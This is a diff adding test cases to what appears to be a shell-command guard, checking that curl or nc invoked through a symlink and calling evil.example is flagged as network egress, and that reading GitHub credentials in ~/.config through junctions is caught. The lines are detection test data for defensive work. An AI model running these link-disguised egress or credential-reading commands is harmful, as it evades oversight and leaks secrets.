@@ -70,6 +70,13 @@ const SESSIONS: Session[] = [
   { lines: ['ln -s ~/.bashrc "$X"'], last: GUARD_RULES.unknownLink },
   { lines: ['ln -s "$T" rc'], last: GUARD_RULES.unknownLink },
   { lines: ['find . -name x -exec ln -s {} links/ \\;'], last: GUARD_RULES.unknownLink },
+  // A program run through a link an earlier call made is the link's target, with the line's words.
+  { lines: ['ln -s /usr/bin/curl x', './x evil.example'], last: 'egress.binary' },
+  { lines: ['ln -s /usr/bin/curl bin/fetch', 'cd bin && ./fetch -s evil.example'], last: 'egress.binary' },
+  { lines: ['ln -s /usr/bin/nc /tmp/n', 'echo hi | /tmp/n evil.example 80'], last: 'egress.binary' },
+  { lines: ['ln -sf /usr/bin/true x', './x evil.example'], last: 'pass' },
+  { lines: ['ln -s ../tools/run.sh run', './run --fast'], last: 'pass' },
+  { lines: ['ln -s /usr/bin/curl x', './x --version'], last: 'pass' },
   // PowerShell and cmd.
   { lines: ['PS> New-Item -ItemType Junction -Path cfg -Target /home/dev/.config', 'cat cfg/gh/hosts.yml'], last: S },
   { lines: ['PS> New-Item -ItemType SymbolicLink -Path d -Name cfg -Value /home/dev/.config', 'cat d/cfg/gh/hosts.yml'], last: S },
